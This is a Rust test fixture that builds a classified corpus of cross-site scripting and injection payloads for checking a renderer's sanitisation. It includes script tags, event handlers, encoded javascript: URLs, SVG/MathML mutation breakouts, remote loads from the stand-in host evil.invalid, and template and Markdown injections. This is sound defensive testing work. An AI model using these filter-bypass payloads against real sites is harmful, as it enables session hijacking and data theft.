//! The hostile-input corpus (issue 14): payloads that try to run script, navigate, load from
//! another origin or break out of their element, in classes. Each payload that could run script
//! sets `self.__pwned`; each that could make a request names the host `evil.invalid`. The
//! end-to-end scenario places every one in every place untrusted text lands; the fixture puts them
//! in label values, as a scraped target could.

/// What a payload does when it works.
pub const PWN: &str = "self.__pwned=1";

/// Event handler attributes tried on several elements.
const HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onfocusin",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onpointerover",
    "onwheel",
    "oninput",
    "onchange",
    "onscroll",
    "onresize",
    "onauxclick",
    "ondrag",
    "ondragstart",
    "oncopy",
    "onpaste",
    "onkeydown",
    "onkeyup",
    "onplay",
    "oncanplay",
    "onloadstart",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onpopstate",
    "onstorage",
    "onbeforeunload",
    "onselectstart",
    "oncontextmenu",
    "ondblclick",
    "onmousedown",
];

/// `javascript:` and other script-bearing URLs, with case, entity, encoding and whitespace tricks.
fn script_urls() -> Vec<String> {
    vec![
        format!("javascript:{PWN}"),
        format!("JaVaScRiPt:{PWN}"),
        format!(" javascript:{PWN}"),
        format!("java\tscript:{PWN}"),
        format!("java\nscript:{PWN}"),
        format!("java\rscript:{PWN}"),
        format!("\u{1}javascript:{PWN}"),
        format!("&#106;avascript:{PWN}"),
        format!("&#x6A;avascript&#x3A;{PWN}"),
        format!(
            "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{PWN}"
        ),
        format!("javascript&colon;{PWN}"),
        format!("jav&#x09;ascript:{PWN}"),
        format!("%6Aavascript:{PWN}"),
        format!("javascript://%0a{PWN}"),
        format!("javascript://comment%0d%0a{PWN}"),
        format!("data:text/html,<script>{PWN}</script>"),
        "data:text/html;base64,PHNjcmlwdD5zZWxmLl9fcHduZWQ9MTwvc2NyaXB0Pg==".to_string(),
        format!("DATA:text/html,<svg onload={PWN}>"),
        "vbscript:msgbox(1)".to_string(),
        "VbScRiPt:msgbox(1)".to_string(),
    ]
}

/// Every payload with its class.
pub fn all() -> Vec<(&'static str, String)> {
    let mut out: Vec<(&'static str, String)> = Vec::new();
    let mut add = |class: &'static str, payload: String| out.push((class, payload));

    for payload in [
        format!("<script>{PWN}</script>"),
        format!("<SCRIPT>{PWN}</SCRIPT>"),
        format!("<ScRiPt >{PWN}</sCrIpT >"),
        "<script src=http://evil.invalid/s.js></script>".to_string(),
        "<script src=//evil.invalid/s.js></script>".to_string(),
        format!("<script/x>{PWN}</script>"),
        format!("<scr<script>ipt>{PWN}</scr</script>ipt>"),
        format!("\"><script>{PWN}</script>"),
        format!("'><script>{PWN}</script>"),
        format!("</title><script>{PWN}</script>"),
        format!("</textarea><script>{PWN}</script>"),
        format!("</style><script>{PWN}</script>"),
        format!("<!--<script>{PWN}</script>-->"),
        format!("<script>/*</script><script>{PWN}//*/</script>"),
        format!("\"-{PWN}-\""),
        format!("';{PWN};//"),
        format!(
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{PWN}//'>"
        ),
        "<script>\\u0073elf.__pwned=1</script>".to_string(),
        format!("<script type=module>{PWN}</script>"),
        "<script>eval(atob('c2VsZi5fX3B3bmVkPTE='))</script>".to_string(),
    ] {
        add("script element", payload);
    }

    for handler in HANDLERS {
        add("event handler", format!("<img src=x {handler}={PWN}>"));
        add("event handler", format!("<svg {handler}={PWN}>"));
        add(
            "event handler",
            format!(
                "<div {handler}=\"{PWN}\" tabindex=1 autofocus style=\"animation-name:spin;transition:all 1s\">x</div>"
            ),
        );
    }
    add("event handler", format!("<body onload={PWN}>"));
    add("event handler", format!("<details open ontoggle={PWN}>"));
    add("event handler", format!("<input autofocus onfocus={PWN}>"));
    add("event handler", format!("<video><source onerror={PWN}></video>"));
    add("event handler", format!("<audio src=x onerror={PWN}>"));
    add("event handler", format!("<marquee onstart={PWN}>x</marquee>"));
    add("event handler", "<img src=x onerror=\"&#115;elf.__pwned=1\">".to_string());
    add("event handler", format!("<img src=x oNeRrOr={PWN}>"));
    add("event handler", format!("<img src=x onerror\n={PWN}>"));
    add("event handler", format!("<img/src=x/onerror={PWN}>"));

    for url in script_urls() {
        add("script URL", format!("<a href=\"{url}\">link</a>"));
        add("script URL", format!("[link]({url})"));
        add("script URL", format!("![image]({url})"));
        add("script URL", url);
    }
    add("script URL", format!("<a href='https://x.org/\" onmouseover=\"{PWN}'>quote break</a>"));
    add("script URL", format!("<a href=\"https://x.org/\" title='\" onmouseover=\"{PWN}'>title break</a>"));

    for payload in [
        format!("<svg><script>{PWN}</script></svg>"),
        format!("<svg><script href=\"data:,{PWN}\"></script></svg>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror={PWN}>"),
        format!("<svg><style><img src=x onerror={PWN}></style></svg>"),
        format!("<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">"),
        format!("<svg><a xlink:href=\"javascript:{PWN}\"><text x=0 y=20>x</text></a></svg>"),
        format!("<math href=\"javascript:{PWN}\">x</math>"),
        format!(
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={PWN} src>\">"
        ),
        format!("<svg><animate onbegin={PWN} attributeName=x dur=1s>"),
        format!("<svg><set attributeName=onmouseover to={PWN}>"),
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe></foreignObject></svg>".to_string(),
        format!("<textarea></textarea><img src=x onerror={PWN}>"),
        format!("<xmp><img src=x onerror={PWN}></xmp>"),
        format!("<listing>&lt;img src=x onerror={PWN}&gt;</listing>"),
        format!("<template><img src=x onerror={PWN}></template>"),
        format!("<p id=\"</p><img src=x onerror={PWN}>\">"),
        format!("<a title=\"a>b\" onclick={PWN}>x</a>"),
        format!("<img src=\"x` `<script>{PWN}</script>\"` `>"),
    ] {
        add("namespace and mutation", payload);
    }

    for payload in [
        "<base href=\"http://evil.invalid/\">".to_string(),
        format!("<meta http-equiv=\"refresh\" content=\"0;url=javascript:{PWN}\">"),
        "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">".to_string(),
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>".to_string(),
        format!("<iframe src=\"javascript:{PWN}\"></iframe>"),
        "<iframe src=http://evil.invalid/frame></iframe>".to_string(),
        format!("<form action=\"javascript:{PWN}\"><input type=submit autofocus></form>"),
        "<form action=http://evil.invalid/f><button>go</button></form>".to_string(),
        format!("<object data=\"javascript:{PWN}\"></object>"),
        "<object data=http://evil.invalid/o></object>".to_string(),
        "<embed src=http://evil.invalid/e>".to_string(),
        "<link rel=stylesheet href=http://evil.invalid/l.css>".to_string(),
        "<link rel=prefetch href=http://evil.invalid/p>".to_string(),
        format!("<isindex action=javascript:{PWN} type=image>"),
        "<portal src=http://evil.invalid/portal></portal>".to_string(),
    ] {
        add("page element", payload);
    }

    for payload in [
        "<div style=\"background:url(http://evil.invalid/c)\">css</div>".to_string(),
        format!("<div style=\"width:expression({PWN})\">css</div>"),
        "<style>@import 'http://evil.invalid/i.css';</style>".to_string(),
        format!("<style>*{{background:url(javascript:{PWN})}}</style>"),
        "<span style=\"behavior:url(http://evil.invalid/x.htc)\">css</span>".to_string(),
        "<p style=\"-moz-binding:url(http://evil.invalid/b.xml#x)\">css</p>".to_string(),
        "<p style=\"background-image:image-set('http://evil.invalid/s.png' 1x)\">css</p>".to_string(),
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999\">overlay</div>"
            .to_string(),
        "<img src=http://evil.invalid/i.png>".to_string(),
        "<img srcset=\"http://evil.invalid/s.png 1x\">".to_string(),
    ] {
        add("CSS and remote loads", payload);
    }

    for payload in [
        "{{constructor.constructor('self.__pwned=1')()}}".to_string(),
        "{{7*7}}".to_string(),
        format!("${{{PWN}}}"),
        "$__all_variables".to_string(),
        "${__all_variables}".to_string(),
        "[[__all_variables]]".to_string(),
        "${__url_time_range}".to_string(),
        "#{7*7}".to_string(),
        "<%= 7*7 %>".to_string(),
        format!("[x](javascript:{PWN} \"t\")"),
        format!("[x](<javascript:{PWN}>)"),
        format!("[x]( javascript:{PWN})"),
        format!("<javascript:{PWN}>"),
        format!("[a](http://x.org\"onmouseover=\"{PWN})"),
        format!("![a](x\"onerror=\"{PWN})"),
        format!("**<img src=x onerror={PWN}>**"),
        "`<script>`".to_string(),
        format!("[![x](x)](javascript:{PWN})"),
        format!("[x][ref]\n\n[ref]: javascript:{PWN}"),
        format!("<https://x.org/\"onmouseover=\"{PWN}>"),
    ] {
        add("template and Markdown", payload);
    }

    for payload in [
        format!("\u{FF1C}script\u{FF1E}{PWN}\u{FF1C}/script\u{FF1E}"),
        format!("\u{202E}<script>{PWN}</script>"),
        format!("%3Cscript%3E{PWN}%3C/script%3E"),
        format!("%C0%BCscript%C0%BE{PWN}%C0%BC/script%C0%BE"),
        format!("\u{FEFF}<script>{PWN}</script>"),
        format!("<scr\u{0}ipt>{PWN}</scr\u{0}ipt>"),
        format!("<img src=x onerror={PWN}\u{2028}>"),
        format!("<\u{17F}cript>{PWN}</\u{17F}cript>"),
        format!("<img src=x onerror\u{00A0}={PWN}>"),
        format!("&lt;script&gt;{PWN}&lt;/script&gt;"),
        format!("&#60;script&#62;{PWN}&#60;/script&#62;"),
        format!("\\u003cscript\\u003e{PWN}\\u003c/script\\u003e"),
        format!("\\x3cscript\\x3e{PWN}\\x3c/script\\x3e"),
        "\u{1F4A9}\u{0301}\u{200D}\u{E000}".to_string(),
        "a".repeat(5_000),
    ] {
        add("unicode and encoding", payload);
    }
    out
}
